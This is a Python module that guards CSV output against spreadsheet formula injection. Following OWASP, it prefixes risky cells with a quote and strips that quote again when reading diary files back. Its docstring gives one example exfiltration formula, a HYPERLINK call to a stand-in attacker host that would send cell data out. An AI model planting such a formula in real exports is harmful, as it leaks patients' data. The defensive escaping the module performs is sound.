"""CSV cells a spreadsheet will not run: the OWASP escape of formula cells, and its undoing.

A spreadsheet opening a CSV file reads a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some, a tab or carriage return) as a formula, so a note such as
``=HYPERLINK("http://evil.example/?"&A1)`` would run when a clinician opens the file.
OWASP's advice (https://owasp.org/www-community/attacks/CSV_Injection) is to prefix such
a cell with a single quote, which spreadsheets show as text. Every CSV fhirmig writes goes
through :func:`safe_cell`, and the diary CSV reader takes the quote off again with
:func:`unescape_cell`, so a diary survives the trip unchanged.

To keep that trip exact, a cell that already starts with quotes followed by one of those
characters gets one more quote, and the reader removes exactly one: ``=1`` is written
``'=1``, ``'=1`` is written ``''=1``, and ``'plain`` (no formula character after the quotes)
is written as it is.
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_START", "safe_cell", "unescape_cell"]

#: The first characters that make a spreadsheet read a cell as a formula.
FORMULA_START = "=+-@\t\r"
_ESCAPE_NEEDED = re.compile(r"'*[=+\-@\t\r]")
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")


def safe_cell(value: str) -> str:
    """``value`` as a CSV cell no spreadsheet reads as a formula (a leading ``'`` if needed)."""
    return "'" + value if _ESCAPE_NEEDED.match(value) else value


def unescape_cell(value: str) -> str:
    """The text :func:`safe_cell` was given: one leading ``'`` removed where it added one."""
    return value[1:] if _ESCAPED.match(value) else value
